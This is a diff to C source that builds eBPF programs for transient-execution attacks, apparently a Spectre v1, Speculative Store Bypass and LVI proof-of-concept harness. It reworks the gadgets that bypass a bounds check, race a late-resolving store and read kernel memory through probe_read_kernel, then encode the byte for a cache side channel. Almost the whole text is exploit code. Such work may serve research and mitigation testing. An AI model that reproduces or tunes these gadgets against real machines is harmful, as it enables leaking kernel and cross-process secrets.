@@ -54,20 +54,20 @@ enum { COUNT_BYTE_LENGTH = 13 };
 	MOVE_IMM(BPF_REG_0, 0),                           \
 	EXIT()
 
-/*
- * Reads the table at the index in R7, if the index has no bits that the limit lacks. The limit is
- * read from the shared array.
- */
+/* Reads the limit of indices to R8. */
+#define READ_LIMIT                                        \
+	MAP_ADDRESS(BPF_REG_8, shared, SHARED_LIMIT),     \
+	LOAD(BPF_B, BPF_REG_8, BPF_REG_8, 0)
+
+/* Counts the byte of the table at the index in R7, if the index has no bits that the limit in R8 lacks. */
 #define READ_TABLE                                        \
-	MAP_ADDRESS(BPF_REG_1, shared, SHARED_LIMIT),     \
-	LOAD(BPF_B, BPF_REG_2, BPF_REG_1, 0),             \
-	AND(BPF_REG_2, BPF_REG_7),                        \
-	JUMP_NOT_EQUAL(BPF_REG_2, BPF_REG_7, 4 + COUNT_BYTE_LENGTH), \
+	AND(BPF_REG_8, BPF_REG_7),                        \
+	JUMP_NOT_EQUAL(BPF_REG_8, BPF_REG_7, 4 + COUNT_BYTE_LENGTH), \
 	MAP_ADDRESS(BPF_REG_3, shared, SHARED_TABLE),     \
 	ADD(BPF_REG_3, BPF_REG_7),                        \
 	LOAD(BPF_B, BPF_REG_0, BPF_REG_3, 0),             \
 	COUNT_BYTE
-enum { READ_TABLE_LENGTH = 9 + COUNT_BYTE_LENGTH };
+enum { READ_TABLE_LENGTH = 6 + COUNT_BYTE_LENGTH };
 
 /* Lets packets to a socket run a program, which ends by dropping them. */
 static void attach_filter(int program)
@@ -83,6 +83,7 @@ static void load_spectre_v1(void)
 	const struct bpf_insn program[] = {
 		READ_REQUEST,
 		LOAD(BPF_DW, BPF_REG_7, BPF_REG_10, -16),
+		READ_LIMIT,
 		READ_TABLE,
 		MOVE_IMM(BPF_REG_0, 0),
 		EXIT(),
@@ -92,29 +93,29 @@ static void load_spectre_v1(void)
 }
 
 /*
- * A slot of the stack holds the request's value first, then a pointer to the table; where the
- * second store goes is known late, as its address waits for the shared array.
+ * A slot of the stack holds a pointer to the table. Requests that are not harmless put their value
+ * there and then the pointer again; where that store goes is known late, as its address waits for
+ * the shared array. In between is a store elsewhere, so that there always is one under way.
  */
 static void load_ssb(void)
 {
 	const struct bpf_insn program[] = {
+		MAP_ADDRESS(BPF_REG_8, shared, SHARED_TABLE),
+		STORE(BPF_DW, BPF_REG_10, BPF_REG_8, -24),
 		READ_REQUEST,
 		LOAD(BPF_DW, BPF_REG_7, BPF_REG_10, -16),
 		LOAD(BPF_DW, BPF_REG_5, BPF_REG_10, -8),
-		MAP_ADDRESS(BPF_REG_8, shared, SHARED_TABLE),
-		JUMP_NOT_EQUAL_IMM(BPF_REG_5, 0, 9),
-		STORE(BPF_DW, BPF_REG_10, BPF_REG_7, -24),
 		MAP_ADDRESS(BPF_REG_1, shared, SHARED_LIMIT),
+		JUMP_NOT_EQUAL_IMM(BPF_REG_5, 0, 7),
+		STORE(BPF_DW, BPF_REG_10, BPF_REG_7, -24),
 		LOAD(BPF_DW, BPF_REG_4, BPF_REG_1, 0),
 		AND_IMM(BPF_REG_4, 0),
 		MOVE(BPF_REG_2, BPF_REG_10),
 		ADD_IMM(BPF_REG_2, -24),
 		ADD(BPF_REG_2, BPF_REG_4),
-		JUMP(2),
-		/* harmless */
-		MOVE(BPF_REG_2, BPF_REG_10),
-		ADD_IMM(BPF_REG_2, -24),
 		STORE(BPF_DW, BPF_REG_2, BPF_REG_8, 0),
+		/* harmless */
+		STORE(BPF_DW, BPF_REG_10, BPF_REG_7, -32),
 		LOAD(BPF_DW, BPF_REG_3, BPF_REG_10, -24),
 		LOAD(BPF_B, BPF_REG_0, BPF_REG_3, 0),
 		COUNT_BYTE,
@@ -130,7 +131,7 @@ static void load_lvi(void)
 {
 	const struct bpf_insn program[] = {
 		LOAD(BPF_DW, BPF_REG_2, BPF_REG_1, 8),
-		JUMP_NOT_EQUAL_IMM(BPF_REG_2, LVI_CALL, 13 + READ_TABLE_LENGTH),
+		JUMP_NOT_EQUAL_IMM(BPF_REG_2, LVI_CALL, 16 + READ_TABLE_LENGTH),
 		LOAD(BPF_DW, BPF_REG_3, BPF_REG_1, 0),
 		ADD_IMM(BPF_REG_3, USER_RDI),
 		MOVE(BPF_REG_1, BPF_REG_10),
@@ -138,6 +139,7 @@ static void load_lvi(void)
 		MOVE_IMM(BPF_REG_2, 8),
 		CALL(BPF_FUNC_probe_read_kernel),
 		LOAD(BPF_DW, BPF_REG_3, BPF_REG_10, -8),
+		READ_LIMIT,
 		MOVE(BPF_REG_1, BPF_REG_10),
 		ADD_IMM(BPF_REG_1, -16),
 		MOVE_IMM(BPF_REG_2, 8),
